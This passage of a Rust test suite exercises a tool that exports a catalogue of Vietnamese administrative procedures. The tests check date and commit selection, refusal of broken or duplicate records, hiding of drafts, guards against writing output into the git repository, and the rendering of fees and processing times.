    let out = sb
        .tthc(&dir)
        .args(["export", "--format", "html", "--out", "../site"])
        .assert()
        .code(2)
        .get_output()
        .clone();
    assert!(
        common::stderr(&out).contains("lỗi mẫu trang templates/index.html"),
        "{}",
        common::stderr(&out)
    );
    assert!(sb.path().join("site/index.html").exists());
}

fn csv_rows(path: &Path) -> Vec<csv::StringRecord> {
    let bytes = fs::read(path).unwrap();
    csv::Reader::from_reader(&bytes[3..])
        .records()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn at_and_effective_choose_the_catalogue_and_the_day() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    // A later commit raises a fee and adds a procedure that takes effect in 2030.
    let file = dir.join("procedures/xa/2.000815.yaml");
    let text = fs::read_to_string(&file)
        .unwrap()
        .replace("amount: 2000\n", "amount: 3000\n");
    fs::write(&file, text).unwrap();
    let mut newer: String = fs::read_to_string(dir.join("procedures/xa/1.001193.yaml"))
        .unwrap()
        .replace("code: '1.001193'", "code: '1.009999'")
        .lines()
        .filter(|l| !l.starts_with("effective_from:"))
        .map(|l| format!("{l}\n"))
        .collect();
    newer.push_str("effective_from: 2030-01-01\n");
    fs::write(dir.join("procedures/xa/1.009999.yaml"), newer).unwrap();
    sb.git(&dir, &["add", "-A"]);
    sb.git(&dir, &["commit", "-qm", "later"]);
    let first = sb.git(&dir, &["rev-parse", "HEAD~1"]).trim().to_owned();
    let total = store::load(&dir).unwrap().procedures.len() - 1;

    let export = |args: &[&str], out: &str| {
        let mut cmd = sb.tthc(&dir);
        cmd.args(["export", "--format", "csv,json", "--out", out])
            .args(args);
        cmd.assert().success();
        csv_rows(&dir.join(out).join("danh-muc-tthc.csv"))
    };
    let fee = |rows: &[csv::StringRecord]| {
        rows.iter()
            .find(|r| &r[1] == "2.000815" && &r[4] == "Cấp xã")
            .unwrap()[7]
            .to_owned()
    };
    let now = export(&[], "../now");
    assert_eq!(now.len(), total + 1);
    assert!(fee(&now).starts_with("3.000 đ"), "{}", fee(&now));
    let then = export(&["--at", &first], "../then");
    assert_eq!(then.len(), total);
    assert!(fee(&then).starts_with("2.000 đ"));
    let json: Value =
        serde_json::from_slice(&fs::read(sb.path().join("then/danh-muc-tthc.json")).unwrap())
            .unwrap();
    assert_eq!(json["source"]["commit"], first.as_str());
    assert_eq!(json["source"]["at"], first.as_str());
    // A date means "as recorded at the end of that day": today is HEAD.
    let today = sb
        .git(&dir, &["log", "-1", "--format=%cd", "--date=short"])
        .trim()
        .to_owned();
    assert_eq!(export(&["--at", &today], "../today").len(), total + 1);

    // In force on a day: from the records' own dates.
    let cat = store::load(&dir).unwrap();
    let day = jiff::civil::date(2022, 1, 1);
    let in_force = cat
        .procedures
        .iter()
        .filter(|s| s.record.in_effect_on(day))
        .count();
    assert!(
        in_force < total,
        "the sample has procedures taking effect later"
    );
    let eff = export(&["--effective", "2022-01-01"], "../eff");
    assert_eq!(eff.len(), in_force);
    assert!(eff.iter().all(|r| &r[1] != "1.009999"));
    // Both together: the catalogue as recorded at the first commit, in force on that day.
    let both = export(&["--at", &first, "--effective", "2022-01-01"], "../both");
    assert_eq!(both.len(), in_force);
    assert!(fee(&both).starts_with("2.000 đ"));
    // A date as Vietnamese people write it is the same day; one that is no day is refused.
    assert_eq!(export(&["--effective", "01/01/2022"], "../eff-vi"), eff);
    let out = sb
        .tthc(&dir)
        .args(["export", "--effective", "31/02/2022", "--out", "../x"])
        .assert()
        .code(2)
        .get_output()
        .clone();
    assert!(common::stderr(&out).contains("không phải ngày"));
    let _ = stdout(&out);
}

/// Every file under `dir`, relative, with its bytes.
fn tree(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
                files.insert(rel, fs::read(&p).unwrap());
            }
        }
    }
    files
}

#[test]
fn a_file_that_does_not_parse_stops_the_export_unless_allowed() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    sb.tthc(&dir)
        .args(["export", "--format", "csv", "--out", "../site"])
        .assert()
        .success();
    let before = tree(&sb.path().join("site"));
    fs::write(dir.join("procedures/xa/1.001193.yaml"), "code: [\n").unwrap();
    // A cron job exporting every night: the listing it publishes must not shrink silently.
    let out = sb
        .tthc(&dir)
        .args(["export", "--format", "csv", "--out", "../site"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", common::stderr(&out));
    let err = common::stderr(&out);
    assert!(
        err.contains("procedures/xa/1.001193.yaml") && err.contains("--allow-problems"),
        "{err}"
    );
    assert!(err.contains("không xuất gì"), "{err}");
    assert_eq!(
        tree(&sb.path().join("site")),
        before,
        "the old export stands"
    );
    let out = sb
        .tthc(&dir)
        .args(["--lang", "en", "export", "--out", "../new"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(common::stderr(&out).contains("nothing was exported"));
    assert!(!sb.path().join("new").exists());

    // Asked for explicitly: exported without it, and said so.
    let out = sb
        .tthc(&dir)
        .args([
            "export",
            "--format",
            "csv",
            "--out",
            "../site",
            "--allow-problems",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
    assert!(common::stderr(&out).contains("procedures/xa/1.001193.yaml"));
    let rows = csv_rows(&sb.path().join("site/danh-muc-tthc.csv"));
    assert!(rows.iter().all(|r| &r[1] != "1.001193"));
    assert_eq!(rows.len(), 48);
}

#[test]
fn procedures_that_cannot_be_listed_stop_the_export_unless_allowed() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    // The same procedure twice at one level: one of them could not be listed.
    fs::copy(
        dir.join("procedures/xa/1.001193.yaml"),
        dir.join("procedures/xa/ban-sao.yaml"),
    )
    .unwrap();
    let out = sb
        .tthc(&dir)
        .args(["export", "--out", "../site"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        common::stderr(&out).contains("xa/1.001193: trùng mã"),
        "{}",
        common::stderr(&out)
    );
    assert!(!sb.path().join("site").exists());
    sb.tthc(&dir)
        .args(["export", "--out", "../site", "--allow-problems"])
        .assert()
        .success();
}

#[test]
fn a_broken_catalog_yaml_is_never_exported() {
    let sb = Sandbox::new();
    let dir = sb.sample("c");
    let manifest = dir.join("catalog.yaml");
    let text = fs::read_to_string(&manifest).unwrap();
    fs::write(&manifest, format!("{text}levels: [\n")).unwrap();
    for extra in [None, Some("--allow-problems")] {
        let out = sb
            .tthc(&dir)
            .args(["export", "--out", "../site"])
            .args(extra)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{extra:?}");
        assert!(common::stderr(&out).contains("catalog.yaml"));
        assert!(!sb.path().join("site").exists());
    }
}

#[test]
fn the_export_never_lands_in_the_repository_or_the_catalogue() {
    let sb = Sandbox::new();
    let outer = sb.path().join("ubnd");
    fs::create_dir(&outer).unwrap();
    sb.git(&outer, &["init", "-q", "-b", "main"]);
    let dir = outer.join("danh-muc");
    sb.tthc(&outer)
        .args(["init", "danh-muc", "--sample"])
        .assert()
        .success();
    fs::create_dir_all(dir.join("templates")).unwrap();
    let git_before = tree(&outer.join(".git"));
    let catalogue_before = tree(&dir);
    // An empty folder in .git would have been replaced by the site: refs, hooks, objects.
    for out in [
        "../.git/refs/tags",
        "../.git/refs/tags/site",
        "../.git",
        "../.git/hooks/../info",
        ".",
        "procedures",
        "procedures/xa",
        "proposals/new",
        "publications",
        "templates",
        "./nothing-here/../procedures",
        "..",
        "../..",
    ] {
        let run = sb
            .tthc(&dir)
            .args(["export", "--format", "csv", "--out", out])
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(2), "--out {out}");
        let err = common::stderr(&run);
        assert!(err.contains("không xuất vào"), "--out {out}: {err}");
    }
    // Through a symbolic link as well.
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(outer.join(".git/refs"), sb.path().join("refs-link")).unwrap();
        let run = sb
            .tthc(&dir)
            .args(["--lang", "en", "export", "--out", "../../refs-link/tags"])
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(2));
        assert!(common::stderr(&run).contains(".git folder"));
    }
    assert_eq!(
        tree(&outer.join(".git")),
        git_before,
        "the repository is untouched"
    );
    assert_eq!(tree(&dir), catalogue_before, "the catalogue is untouched");
    sb.fsck(&outer);
    // Beside the catalogue's own folders is fine: a site folder inside the catalogue folder.
    sb.tthc(&dir)
        .args(["export", "--format", "csv", "--out", "site"])
        .assert()
        .success();
}

/// A draft (a new procedure not yet published) is in no output: not the site, its changes page,
/// the CSV or the JSON.
#[test]
fn a_draft_is_in_no_export() {
    let (_dir, mut cat) = sample();
    let draft = cat
        .procedures
        .iter_mut()
        .find(|s| s.record.code == "1.001193")
        .unwrap();
    draft.record.status = tthc::model::ProcedureStatus::Draft;
    let files = render(&cat, &all_formats());
    let index = text(&files, "index.html");
    assert_eq!(
        index.matches("<tr data-s=").count(),
        cat.procedures.len() - 1
    );
    assert!(!index.contains("1.001193"), "not on the site");
    assert!(!files.keys().any(|k| k.contains("1.001193")), "no page");
    assert!(!text(&files, "thay-doi.html").contains("1.001193"));
    for (name, bytes) in &files {
        let t = String::from_utf8_lossy(bytes);
        if name.ends_with(".csv") {
            assert!(
                !t.lines()
                    .any(|l| l.split(',').any(|cell| cell == "1.001193")),
                "{name}"
            );
        }
        if name.ends_with(".json") && !name.contains("schema") {
            // Another procedure may name it as linked; no record is it.
            assert!(!t.contains("\"code\":\"1.001193\""), "{name}");
            assert!(!t.contains("\"code\": \"1.001193\""), "{name}");
        }
    }
}

/// The 2026 record in the listing and on the site: tiers and a cap in words, the committed time
/// before the statutory one, several online services, and "not entered" never shown as "none".
#[test]
fn tiers_caps_committed_times_services_and_not_entered_are_rendered() {
    let (_dir, mut cat) = sample();
    let find = |cat: &Catalog, level: &str, code: &str| {
        cat.procedures
            .iter()
            .position(|s| s.record.level == level && s.record.code == code)
            .unwrap()
    };
    let copy = find(&cat, "xa", "2.000815");
    {
        let p = &mut cat.procedures[copy].record;
        p.fees = Some(vec![Fee {
            kind: FeeKind::Fee,
            unit: Some("trang".into()),
            tiers: vec![
                tthc::model::FeeTier {
                    from: Some(1),
                    to: Some(2),
                    amount: Some(2000),
                },
                tthc::model::FeeTier {
                    from: Some(3),
                    to: None,
                    amount: Some(1000),
                },
            ],
            max: Some(200_000),
            max_unit: Some("bản".into()),
            ..Fee::default()
        }]);
        p.committed_time = None;
    }
    let birth = find(&cat, "xa", "1.001193");
    {
        let p = &mut cat.procedures[birth].record;
        p.processing_time = ProcessingTime {
            value: Some(5),
            unit: TimeUnit::WorkingDays,
            note: None,
        };
        p.committed_time = Some(ProcessingTime {
            value: Some(3),
            unit: TimeUnit::WorkingDays,
            note: None,
        });
        p.internal_process = vec![tthc::model::ProcessStep {
            step: "Tiếp nhận, thẩm định hồ sơ".into(),
            unit: Some("ubnd-xa".into()),
            days: Some(2),
            hours: Some(4),
        }];
        p.online_service.services = vec![
            tthc::model::OnlineServiceEntry {
                code: "DVC-KS-01".into(),
                name: Some("Đăng ký khai sinh".into()),
                mode: OnlineMode::Full,
                url: Some("https://dichvucong.gov.vn/ks".into()),
            },
            tthc::model::OnlineServiceEntry {
                code: "DVC-LT-02".into(),
                name: Some("Liên thông khai sinh, thường trú, bảo hiểm y tế".into()),
                mode: OnlineMode::Partial,
                url: None,
            },
        ];
        p.fees = Some(Vec::new());
    }
    let unknown = find(&cat, "xa", "1.000894");
    cat.procedures[unknown].record.fees = None;
    cat.procedures[unknown].record.legal_basis = None;
    let files = render(&cat, &all_formats());
    let index = text(&files, "index.html");
    // The row of a commune-level procedure (a code may be at both levels).
    let row = |code: &str| {
        index
            .match_indices(&format!("<tr data-s=\"{code} "))
            .map(|(at, _)| {
                let end = at + index[at..].find("</tr>").unwrap();
                index[at..end].to_owned()
            })
            .find(|r| r.contains("data-level=\"xa\""))
            .unwrap()
    };
    assert!(
        row("2.000815")
            .contains("2.000 đ/trang (trang 1–2); 1.000 đ/trang từ trang 3; tối đa 200.000 đ/bản"),
        "{}",
        row("2.000815")
    );
    let b = row("1.001193");
    assert!(
        b.contains("03 ngày làm việc (quy định: 05 ngày làm việc)"),
        "{b}"
    );
    assert!(b.contains("<td>Không</td>"), "entered as free: {b}");
    let u = row("1.000894");
    assert!(u.contains("<td>Chưa có thông tin</td>"), "{u}");
    assert!(!u.contains("<td>Không</td>"), "{u}");

    let page = text(&files, "thu-tuc/xa/2.000815.html");
    assert!(page.contains(
        "<td class=\"amount\">2.000 đ/trang (trang 1–2); 1.000 đ/trang từ trang 3; tối đa 200.000 đ/bản</td>"
    ));
    // A cap is never a fee line of its own.
    assert_eq!(page.matches("<td class=\"amount\">").count(), 1);
    let page = text(&files, "thu-tuc/xa/1.001193.html");
    assert_safe_page("1.001193", &page);
    assert!(
        page.contains(
            "<dt>Thời hạn cam kết (rút ngắn)</dt><dd class=\"text\">03 ngày làm việc</dd>"
        )
    );
    assert!(
        page.contains("<dt>Thời hạn theo quy định</dt><dd class=\"text\">05 ngày làm việc</dd>")
    );
    assert!(page.contains("<td class=\"text\">Tiếp nhận, thẩm định hồ sơ</td>"));
    assert!(page.contains("2,5 ngày làm việc"));
    assert!(page.contains("<dt>Dịch vụ DVC-KS-01</dt><dd>Toàn trình — Đăng ký khai sinh — <a href=\"https://dichvucong.gov.vn/ks\""));
    assert!(page.contains("<dt>Dịch vụ DVC-LT-02</dt><dd>Một phần — Liên thông"));
    assert!(page.contains("<p>Không thu phí, lệ phí.</p>"));
    let page = text(&files, "thu-tuc/xa/1.000894.html");
    assert_eq!(
        page.matches("<p class=\"missing\">Chưa có thông tin.</p>")
            .count(),
        2,
        "fees and legal basis not entered"
    );
    assert!(!page.contains("<p>Không.</p>"));
    // The CSV says the same.
    let csv = text(&files, "danh-muc-tthc.csv");
    assert!(csv.contains("tối đa 200.000 đ/bản"));
    assert!(csv.contains("Chưa có thông tin"));
}
